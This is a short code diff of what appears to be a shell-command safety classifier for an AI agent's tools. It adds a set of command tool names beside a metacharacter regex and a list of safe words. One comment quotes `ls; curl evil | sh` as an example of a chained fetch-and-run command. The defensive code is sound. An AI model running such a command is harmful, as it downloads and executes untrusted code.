@@ -10,6 +10,9 @@ import shlex
 # word (`ls; curl evil | sh`), so such a command is never "known safe" and never shares a prefix.
 _META = re.compile(r"[;&|<>`\n\r]|\$\(|\$\{")
 
+#: The tools whose declaration is a shell command (`!` is the person's own `!cmd`).
+COMMAND_TOOLS = frozenset({"bash", "shell", "!"})
+
 _SAFE_WORDS = frozenset(
     "ls cat pwd echo head tail wc grep rg stat file which whoami uname date true tree du df "
     "basename dirname realpath readlink id env printenv nl cut tr uniq".split()
